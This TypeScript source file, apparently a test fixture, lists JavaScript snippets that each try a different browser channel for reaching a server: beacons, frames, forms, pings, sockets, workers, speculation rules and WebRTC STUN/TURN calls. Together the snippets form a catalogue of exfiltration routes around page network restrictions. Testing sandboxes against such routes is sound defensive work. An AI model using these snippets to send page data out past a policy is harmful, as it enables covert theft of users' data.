/** Methods by which a page's script can reach a server, each a script that tries it; `href` is the server's address. */

const linkTo = (rel: string) =>
  `document.head.append(Object.assign(document.createElement('link'), { rel: '${rel}', as: 'script', href }))`

const inWorker = (maker: string, script: string) => `new ${maker}(URL.createObjectURL(new Blob([${script}])))`

/** Connects to a STUN or TURN server, which receives the name as sent data. */
const call = (maker: string) => `
  const servers = ['stun:', 'turn:'].map((scheme) => scheme + new URL(href).host)
  const one = new ${maker}({ iceServers: [{ urls: servers, username: 'said', credential: 'x' }] })
  one.createDataChannel('x')
  one.createOffer().then((offer) => one.setLocalDescription(offer))
`

const ownFrame = `const frame = document.body.appendChild(document.createElement('iframe'))`

export const exfiltrationScripts: Readonly<Record<string, string>> = {
  'a connection made ahead': linkTo('preconnect'),
  'a file fetched ahead': linkTo('prefetch'),
  'a module fetched ahead': linkTo('modulepreload'),
  'a beacon': 'navigator.sendBeacon(href)',
  'a frame': `document.body.append(Object.assign(document.createElement('iframe'), { src: href }))`,
  'a form': `const form = document.createElement('form'); form.action = href; document.body.append(form); form.submit()`,
  'a ping': `Object.assign(document.body.appendChild(document.createElement('a')), { href: '#', ping: href }).click()`,
  'a socket': `new WebSocket(href.replace('http', 'ws'))`,
  'a stream of events': 'new EventSource(href)',
  'a transport by QUIC': `new WebTransport(href.replace('http', 'https')).ready.catch(() => {})`,
  'a worker': inWorker('Worker', `'fetch("' + href + '")'`),
  'a socket of a worker': inWorker('Worker', `'new WebSocket("' + href.replace('http', 'ws') + '")'`),
  'a shared worker': inWorker('SharedWorker', `'fetch("' + href + '")'`),
  'rules for pages to come': `
    const text = JSON.stringify({ prefetch: [{ source: 'list', urls: [href] }] })
    document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', text }))
  `,
  'a call': call('RTCPeerConnection'),
  'a call by its old name': call('webkitRTCPeerConnection'),
  'a call from a frame of its own': `${ownFrame}; ${call('frame.contentWindow.RTCPeerConnection')}`,
}
